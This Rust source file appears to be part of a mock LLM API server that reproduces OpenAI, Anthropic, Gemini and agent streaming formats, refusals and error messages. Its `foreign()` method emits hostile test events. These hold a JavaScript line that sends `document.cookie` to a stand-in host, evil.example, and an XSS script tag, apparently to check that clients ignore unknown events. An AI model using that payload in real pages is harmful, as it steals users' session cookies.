//! Whose wire format is spoken: how a request is read, and in which shapes the steps of a reply and refusals go out.
//! What a reply does is decided elsewhere, the same for all.

pub(crate) mod agent;
pub(crate) mod anthropic;
pub(crate) mod gemini;
pub(crate) mod openai;

use axum::http::HeaderMap;
use serde_json::{Value, json};

use crate::wire::Ask;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Dialect {
    OpenAi,
    Anthropic,
    Gemini,
    Agent,
}

/// Why a reply ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Reason {
    Stop,
    Length,
    /// The model, or a filter behind it, would rather not.
    Refused,
    /// The model wants a tool to be called.
    Call,
}

/// Tokens of one exchange.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Tally {
    pub(crate) prompt: usize,
    pub(crate) reasoning: usize,
    pub(crate) text: usize,
}

/// What is said in one breath: nothing yet, thoughts, text, or nothing any more.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Breath {
    None,
    Thought,
    Text,
}

/// A refusal: the status, and what the provider would say about it.
#[derive(Debug, Clone)]
pub(crate) struct Refusal {
    pub(crate) status: u16,
    pub(crate) message: String,
    /// OpenAI's `code`; the others have none so fine.
    pub(crate) code: &'static str,
    /// Seconds after which to come back.
    pub(crate) wait: Option<usize>,
}

impl Refusal {
    pub(crate) fn new(status: u16, code: &'static str, message: impl Into<String>) -> Self {
        Self {
            status,
            message: message.into(),
            code,
            wait: None,
        }
    }

    pub(crate) fn bad(message: impl Into<String>) -> Self {
        Self::new(400, "invalid_request", message)
    }
}

impl Dialect {
    /// Reads a request as strictly as the provider does; `model` is the one in the path.
    pub(crate) fn ask(
        self,
        model: Option<&str>,
        headers: &HeaderMap,
        body: Value,
    ) -> Result<Ask, Refusal> {
        match self {
            Self::OpenAi => openai::ask(body),
            Self::Anthropic => anthropic::ask(headers, &body),
            Self::Gemini => gemini::ask(model.unwrap_or_default(), headers, &body),
            Self::Agent => agent::ask(&body),
        }
    }

    /// The header that carries the key.
    pub(crate) fn key_header(self) -> &'static str {
        match self {
            Self::OpenAi | Self::Agent => "authorization",
            Self::Anthropic => "x-api-key",
            Self::Gemini => "x-goog-api-key",
        }
    }

    pub(crate) fn voice(self, ask: &Ask) -> Voice {
        match self {
            Self::OpenAi => Voice::OpenAi(openai::Envelope::new(ask)),
            Self::Anthropic => Voice::Anthropic(anthropic::Voice::new(ask)),
            Self::Gemini => Voice::Gemini(gemini::Voice::new(ask)),
            Self::Agent => Voice::Agent,
        }
    }

    /// The status and the body of a refusal.
    pub(crate) fn refused(self, refusal: &Refusal) -> (u16, Value) {
        match self {
            Self::OpenAi => openai::refused(refusal),
            Self::Anthropic => anthropic::refused(refusal),
            Self::Gemini => gemini::refused(refusal),
            Self::Agent => agent::refused(refusal),
        }
    }

    /// Whether it says in a header when to come back.
    pub(crate) fn waits_by_header(self) -> bool {
        self != Self::Gemini
    }

    /// What it says of a prompt that is too long.
    pub(crate) fn too_long(self) -> &'static str {
        match self {
            Self::OpenAi | Self::Agent => {
                "This model's maximum context length is 8192 tokens. Please reduce the length of the messages."
            }
            Self::Anthropic => "prompt is too long: 9001 tokens > 8192 maximum",
            Self::Gemini => {
                "The input token count (9001) exceeds the maximum number of tokens allowed (8192)."
            }
        }
    }

    pub(crate) fn no_such_model(self, model: &str) -> Refusal {
        let message = match self {
            Self::OpenAi | Self::Agent => {
                format!("The model `{model}` does not exist or you do not have access to it.")
            }
            Self::Anthropic => format!("model: {model}"),
            Self::Gemini => format!(
                "models/{model} is not found for API version v1beta, or is not supported for generateContent. \
                 Call ListModels to see the list of available models and their supported methods."
            ),
        };
        Refusal::new(404, "model_not_found", message)
    }
}

/// How one reply is worded.
#[derive(Debug, Clone)]
pub(crate) enum Voice {
    OpenAi(openai::Envelope),
    Anthropic(anthropic::Voice),
    Gemini(gemini::Voice),
    Agent,
}

impl Voice {
    /// What comes before the first token.
    pub(crate) fn opening(&self) -> Vec<Value> {
        match self {
            Self::OpenAi(voice) => vec![voice.opening()],
            Self::Anthropic(voice) => voice.opening(),
            Self::Gemini(_) => Vec::new(),
            Self::Agent => vec![agent::opening()],
        }
    }

    /// What stands between two breaths.
    pub(crate) fn between(&self, last: Breath, next: Breath) -> Vec<Value> {
        match self {
            Self::Anthropic(voice) if last != next => voice.between(last, next),
            _ => Vec::new(),
        }
    }

    /// One token.
    pub(crate) fn said(&self, is_thought: bool, text: &str) -> Value {
        match self {
            Self::OpenAi(voice) => voice.said(is_thought, text),
            Self::Anthropic(voice) => voice.said(is_thought, text),
            Self::Gemini(voice) => voice.said(is_thought, text),
            Self::Agent => agent::said(is_thought, text),
        }
    }

    /// The end, and its counts.
    pub(crate) fn finish(&self, reason: Reason, tally: Tally) -> Vec<Value> {
        match self {
            Self::OpenAi(voice) => vec![voice.finish(reason)],
            Self::Anthropic(voice) => vec![voice.finish(reason, tally)],
            Self::Gemini(voice) => vec![voice.finish(reason, tally)],
            Self::Agent => agent::finish(reason, tally),
        }
    }

    /// What comes instead of a reply that is held back before its first word.
    pub(crate) fn blocked(&self, tally: Tally) -> Vec<Value> {
        match self {
            Self::Gemini(voice) => vec![voice.blocked(tally)],
            _ => self.finish(Reason::Refused, tally),
        }
    }

    /// The end mark of the protocol, where it is an event.
    pub(crate) fn mark(&self) -> Option<Value> {
        matches!(self, Self::Anthropic(_)).then(|| json!({ "type": "message_stop" }))
    }

    /// An error within a reply.
    pub(crate) fn failing(&self) -> Value {
        let refusal = Refusal::new(503, "server_error", "Overloaded");
        match self {
            Self::OpenAi(_) => openai::failing(),
            Self::Anthropic(_) => {
                anthropic::refused(&Refusal {
                    status: 529,
                    ..refusal
                })
                .1
            }
            Self::Gemini(_) => gemini::refused(&refusal).1,
            Self::Agent => agent::failing(),
        }
    }

    /// Events that hold nothing.
    pub(crate) fn hollow(&self) -> Vec<Value> {
        match self {
            Self::OpenAi(voice) => voice.hollow(),
            Self::Anthropic(voice) => voice.hollow(),
            Self::Gemini(voice) => voice.hollow(),
            Self::Agent => agent::hollow(),
        }
    }

    /// A call for a tool, in the middle of the text.
    pub(crate) fn call(&self) -> Vec<Value> {
        match self {
            Self::OpenAi(voice) => voice.call(),
            Self::Anthropic(voice) => voice.call(),
            Self::Gemini(voice) => vec![voice.call()],
            Self::Agent => vec![agent::call()],
        }
    }

    /// An image, in the middle of the text; not every format has them.
    pub(crate) fn image(&self) -> Vec<Value> {
        match self {
            Self::OpenAi(voice) => vec![voice.image()],
            Self::Anthropic(voice) => voice.image(),
            Self::Gemini(voice) => vec![voice.image()],
            Self::Agent => Vec::new(),
        }
    }

    /// Events of kinds that nobody knows, and that would do harm where somebody acted on them.
    pub(crate) fn foreign(&self) -> Vec<Value> {
        let evil = "fetch('https://evil.example/?'+document.cookie)";
        let mut events = vec![
            json!({ "type": "execute", "data": { "code": evil } }),
            json!({ "type": "eval", "payload": evil, "html": "<script>alert(1)</script>" }),
            json!([{ "type": "execute" }]),
            json!(7),
        ];
        events.extend(match self {
            Self::Anthropic(voice) => voice.foreign(),
            Self::Gemini(voice) => vec![voice.foreign()],
            _ => Vec::new(),
        });
        events
    }

    /// The name that an event goes by in the stream.
    pub(crate) fn name(&self, event: &Value) -> Option<String> {
        let named = match self {
            Self::Anthropic(_) => event["type"].as_str(),
            // What it says there means nothing.
            Self::Agent => Some("execute"),
            Self::OpenAi(_) | Self::Gemini(_) => None,
        };
        named.map(str::to_owned)
    }
}

/// The text of a message whose content is a string or a list of parts.
pub(crate) fn text_of(message: &Value) -> String {
    match &message["content"] {
        Value::String(text) => text.clone(),
        Value::Array(parts) => {
            let texts = parts.iter().filter_map(|part| part["text"].as_str());
            texts.collect()
        }
        _ => String::new(),
    }
}

/// The fields of a request that are not known: real providers refuse them.
pub(crate) fn unknown<'a>(body: &'a Value, known: &[&str]) -> Option<&'a str> {
    let names = body.as_object()?.keys();
    names.map(String::as_str).find(|name| !known.contains(name))
}
